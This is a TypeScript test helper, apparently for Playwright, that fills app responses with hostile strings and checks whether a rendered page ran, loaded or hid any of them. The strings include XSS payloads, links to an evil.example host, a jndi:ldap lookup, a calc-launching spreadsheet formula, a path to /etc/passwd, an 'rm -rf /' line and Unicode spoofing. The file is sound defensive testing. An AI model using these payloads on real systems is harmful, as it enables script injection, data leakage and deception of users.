/**
 * What somebody who controls text on a host, or an assistant, writes to whoever reads it in a browser; and how a page is
 * examined for having taken any of it for more than text.
 */
import type { Page } from 'playwright-core';

/** Sets the canary `owned` of the window where it is ever evaluated. */
const RUN = 'window.owned=document.domain;alert(1)';

export const LONG_WORD: string = 'W'.repeat(100_000);

export const HOSTILE: readonly string[] = [
  `<script data-made>${RUN}</script>`,
  `"><img data-made src="https://evil.example/made.png" onerror="${RUN}">`,
  `</title></textarea></style></script><svg data-made onload="${RUN}"><style data-made>*{display:none}</style>`,
  `'-${RUN}-' \`\${${RUN}}\` {{constructor.constructor('${RUN}')()}} <%= ${RUN} %> #{${RUN}} $\{{${RUN}}}`,
  `javascript:${RUN}`,
  ` \u0001JaVaScRiPt:${RUN}//`,
  `data:text/html,<script>${RUN}</script>`,
  `<a data-made href="javascript:${RUN}">sign here</a><base data-made href="https://evil.example/"><meta data-made http-equiv="refresh" content="0;url=https://evil.example/">`,
  `<iframe data-made srcdoc="<script>parent.owned=1</script>"></iframe><form data-made action="https://evil.example/"><input data-made name="code"></form>`,
  `[approve](javascript:${RUN}) ![x](https://evil.example/made.png) <https://evil.example/> //evil.example/x https://evil.example/plain`,
  '\u001b]0;approved\u0007\u001b[2J\u001b[1;31mred\u001b[0m \u009b31m \u001b]8;;https://evil.example/\u0007click\u001b]8;;\u0007',
  'ends here\u0000and goes on\u0008\u0008\u0008\u0008\r\nsecond line\u0085third\u2028fourth\u2029fifth',
  'nginx\u202egpj.exe\u202c \u2066isolated\u2069 \u200fright\u200e \u061c \u2067open and never closed',
  'ng\u200bi\u200cn\u200dx\u2060\ufeff\u00ad\u180e\u3164\u115f\u034f \u{e0041}\u{e0070}\u{e0070} \ufe0f\u{1f468}\u200d\u{1f469}',
  `z${'\u0300\u0315\u0489\u20dd'.repeat(150)}algo ${'\u0e49'.repeat(300)}`,
  'رسالة من المسؤول: وافق على هذا الآن 123 (nginx) مساء',
  'שלום host:web-1 rm -rf / אבג',
  'раураl-аdmin ｓｕｄｏ ⅰnstall nɡinx ‘quotes’ ᴀᴅᴍɪɴ',
  '=HYPERLINK("https://evil.example/";"approve") +1+cmd|\' /C calc\'!A0 @SUM(1) -2',
  '__proto__ constructor toString %s %n %00 ../../etc/passwd ${jndi:ldap://evil.example/a} \ufffd\uffff',
  'WWWW-'.repeat(900),
  '漢'.repeat(3_000),
  '﷽'.repeat(400),
  `${'<b data-made>'.repeat(300)}deep`,
];

/** As a name may be that the program keeps: without what it refuses in names. */
export const HOSTILE_NAMES: readonly string[] = HOSTILE.flatMap((text) => {
  const name = text
    .replace(/[\p{C}\p{Zl}\p{Zp}]/gu, '')
    .trim()
    .slice(0, 300);
  return name === '' ? [] : [name];
});

/** Members that hold words of others also where they look like a word of ours. */
const WORDS: ReadonlySet<string> = new Set(
  'name label reason says title summary detail note text userAgent value observed desired before after comment claimedName via by person'.split(
    ' ',
  ),
);

/** An answer in which every text that is no id, time or word of ours is one of the hostile ones. */
export function poisoned(answer: unknown, seed = 0): unknown {
  let at = seed;
  const walk = (value: unknown, key: string): unknown => {
    if (Array.isArray(value)) return value.map((each) => walk(each, key));
    if (value !== null && typeof value === 'object')
      return Object.fromEntries(
        Object.entries(value).map(([name, each]) => [name, walk(each, name)]),
      );
    if (typeof value !== 'string') return value;
    if (!WORDS.has(key) && /^\S{0,120}$/.test(value)) return value;
    at += 1;
    return at % 97 === 0 ? LONG_WORD : `${value.slice(0, 40)} ${HOSTILE[at % HOSTILE.length]}`;
  };
  return walk(answer, '');
}

/** Before any page: what was evaluated, asked for, or refused by the policy is remembered. */
export async function watchFor(page: Page, origin: string): Promise<{ readonly seen: string[] }> {
  const seen: string[] = [];
  page.on('dialog', (dialog) => {
    seen.push(`a dialog opened: ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on('request', (request) => {
    const url = new URL(request.url());
    if (url.origin !== origin && url.protocol !== 'data:') seen.push(`asked ${url.href}`);
  });
  page.on('popup', (popup) => seen.push(`opened ${popup.url()}`));
  page.on('download', (download) => seen.push(`downloaded ${download.suggestedFilename()}`));
  await page.addInitScript(`
    window.refusedByPolicy = [];
    document.addEventListener('securitypolicyviolation', (event) =>
      window.refusedByPolicy.push(event.violatedDirective + ' ' + event.blockedURI + ' ' + event.sample));
  `);
  return { seen };
}

/** What is wrong with the page as it is; nothing is what is wanted. */
export async function examine(page: Page): Promise<readonly string[]> {
  return page.evaluate<string[]>(`(() => {
    const wrong = [];
    if (window.owned !== undefined) wrong.push('text was run');
    for (const each of window.refusedByPolicy) wrong.push('refused by the policy: ' + each);
    for (const made of document.querySelectorAll('[data-made], body script, body base, body meta, body iframe, object, embed'))
      wrong.push('made of text: ' + made.outerHTML.slice(0, 100));
    const hidden = /[\\p{Cc}\\p{Cf}\\p{Co}\\p{Cn}\\p{Zl}\\p{Zp}\\p{Default_Ignorable_Code_Point}]/u;
    const plain = (text) => text.replace(/[\\t\\n]/g, '');
    const told = (where, text) => {
      const at = plain(text).search(hidden);
      if (at !== -1) wrong.push(where + ' hides U+' + plain(text).codePointAt(at).toString(16) + ': ' + JSON.stringify(plain(text).slice(Math.max(0, at - 20), at + 20)));
    };
    told('the title', document.title);
    for (const element of document.body.querySelectorAll('*')) {
      for (const { name, value } of element.attributes) {
        if (/^on/.test(name)) wrong.push('a handler: ' + element.outerHTML.slice(0, 100));
        if (/^(title|alt|placeholder|aria-(label|description|valuetext|roledescription))$/.test(name)) told(name + ' of ' + element.tagName, value);
        if (/^(href|src|action|formaction|xlink:href|poster|data)$/.test(name) && new URL(value, location.href).origin !== location.origin && !/^(data:image|blob:)/.test(value))
          wrong.push('leads away: ' + name + '=' + value.slice(0, 100));
      }
    }
    const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
    // What is typed in stays as it is.
    while (walker.nextNode()) if (walker.currentNode.parentElement?.tagName !== 'TEXTAREA') told('a text in ' + (walker.currentNode.parentElement?.closest('[class]')?.className ?? ''), walker.currentNode.data);
    const { scrollWidth, clientWidth } = document.scrollingElement;
    if (scrollWidth > clientWidth + 1) {
      const widest = [...document.body.querySelectorAll('*')].filter((one) => one.getBoundingClientRect().right > clientWidth + 1 && getComputedStyle(one).position !== 'fixed')
        .filter((one) => !/^(HTML|svg|path)$/.test(one.tagName)).map((one) => one.tagName + '.' + (one.getAttribute('class') ?? '') + ' in ' + (one.parentElement?.closest('[class]')?.getAttribute('class') ?? '')).slice(0, 8);
      wrong.push('wider than the window by ' + (scrollWidth - clientWidth) + ': ' + widest.join(' > '));
    }
    return [...new Set(wrong)].slice(0, 12);
  })()`);
}
